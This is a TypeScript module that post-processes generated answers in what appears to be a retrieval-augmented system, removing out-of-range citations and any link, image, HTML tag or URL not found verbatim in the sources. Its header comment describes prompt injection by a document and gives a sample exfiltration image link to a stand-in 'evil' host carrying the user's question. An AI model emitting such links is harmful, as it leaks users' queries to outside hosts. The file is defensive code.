/**
 * Post-processing of every generated answer, whatever the origin (or a model a document talked
 * into obeying it) returned, before a client or the cache sees it:
 * - citations must name a source that exists: `[n]` with n outside 1..sources is removed (from a
 *   list `[1, 9]` only the bad number);
 * - links and images must come from the sources: a markdown image, a markdown link, an autolink,
 *   an HTML tag with `src`/`href`, or a bare URL whose target does not occur verbatim in a source
 *   is removed (a link keeps its text). A rendering client then cannot be made to fetch a URL that
 *   carries the question (`![x](https://evil/?q=…)`) or send a reader to one no document named.
 * Pure and linear in the answer's length.
 */

const URL_IN_TEXT = /\b(?:https?|ftp):\/\/[^\s<>"'`)\]]+/gi;
/** Trailing punctuation a sentence puts after a URL, not part of it. */
const trimUrl = (url: string) => url.replace(/[.,;:!?]+$/, "");

export interface AnswerGuard {
  /** The answer with out-of-range citations and foreign links/images removed. */
  clean(answer: string): string;
  /** A streaming guard: text in, cleaned text out, holding back an unfinished construct. */
  stream(): { push(text: string): string; flush(): string };
}

export function createAnswerGuard(sources: ReadonlyArray<{ text: string }>): AnswerGuard {
  const allowed = new Set<string>();
  for (const source of sources) for (const match of source.text.matchAll(URL_IN_TEXT)) allowed.add(trimUrl(match[0]));
  const count = sources.length;
  const known = (target: string) => {
    const url = trimUrl(target.trim().replace(/^<|>$/g, "").split(/\s+/)[0] ?? "");
    return url !== "" && allowed.has(url);
  };

  const clean = (answer: string): string =>
    answer
      // Markdown images: ![alt](target "title")
      .replace(/!\[([^\]\n]*)\]\(([^)\n]*)\)/g, (whole, _alt, target: string) => (known(target) ? whole : ""))
      // Markdown links: [text](target): the text stays.
      .replace(/\[([^\]\n]*)\]\(([^)\n]*)\)/g, (whole, text: string, target: string) => (known(target) ? whole : text))
      // Reference-style definitions: [label]: target
      .replace(/^[ \t]*\[[^\]\n]+\]:[ \t]*(\S+).*$/gm, (whole, target: string) => (known(target) ? whole : ""))
      // HTML tags that fetch or link (img, a, iframe, source, …).
      .replace(/<\/?[a-z][^>]*>/gi, (tag: string) => {
        const targets = [...tag.matchAll(/\b(?:src|href|srcset|data|action|poster|background)\s*=\s*["']?([^"'\s>]+)/gi)].map((m) => m[1]!);
        if (/^<\/a\b/i.test(tag)) return "";
        return targets.length === 0 || targets.every(known) ? tag : "";
      })
      // Autolinks <https://…> and bare URLs.
      .replace(/<((?:https?|ftp):\/\/[^>\s]+)>/gi, (whole, url: string) => (known(url) ? whole : ""))
      .replace(URL_IN_TEXT, (url: string) => {
        const trimmed = trimUrl(url);
        return allowed.has(trimmed) ? url : url.slice(trimmed.length);
      })
      // Citations: keep the numbers that name a source; drop the marker when none does.
      .replace(/\[(\s*\d+(?:\s*,\s*\d+)*\s*)\](?!\()/g, (_whole, list: string) => {
        const kept = list
          .split(",")
          .map((n) => Number(n.trim()))
          .filter((n) => Number.isInteger(n) && n >= 1 && n <= count);
        return kept.length > 0 ? `[${kept.join(", ")}]` : "";
      })
      .replace(/[ \t]{2,}/g, " ")
      .replace(/ +([.,;:!?])/g, "$1");

  return {
    clean,
    stream() {
      let pending = "";
      return {
        push(text) {
          pending += text;
          const cut = safeCut(pending);
          if (cut === 0) return "";
          const ready = pending.slice(0, cut);
          pending = pending.slice(cut);
          return clean(ready);
        },
        flush() {
          const rest = pending;
          pending = "";
          return rest === "" ? "" : clean(rest);
        },
      };
    },
  };
}

/** Held back at most this much: past it the text is cleaned as it stands (a URL cut in two is still removed). */
const MAX_HELD_CHARS = 4096;

/**
 * Where the text can be cut so that no construct the cleaner matches is split: after the last
 * whitespace outside an open `[…]`, `](…)` or `<tag…>`. Whitespace ends a URL, so bare URLs are
 * never split either.
 */
function safeCut(text: string): number {
  if (text.length > MAX_HELD_CHARS) return text.length;
  let depth = 0;
  let cut = 0;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (ch === "[" || (ch === "(" && text[i - 1] === "]") || (ch === "<" && /^[A-Za-z/]?$/.test(text[i + 1] ?? ""))) depth += 1;
    else if ((ch === "]" || ch === ")" || ch === ">") && depth > 0) depth -= 1;
    else if (depth === 0 && /\s/.test(ch)) cut = i + 1;
  }
  return cut;
}
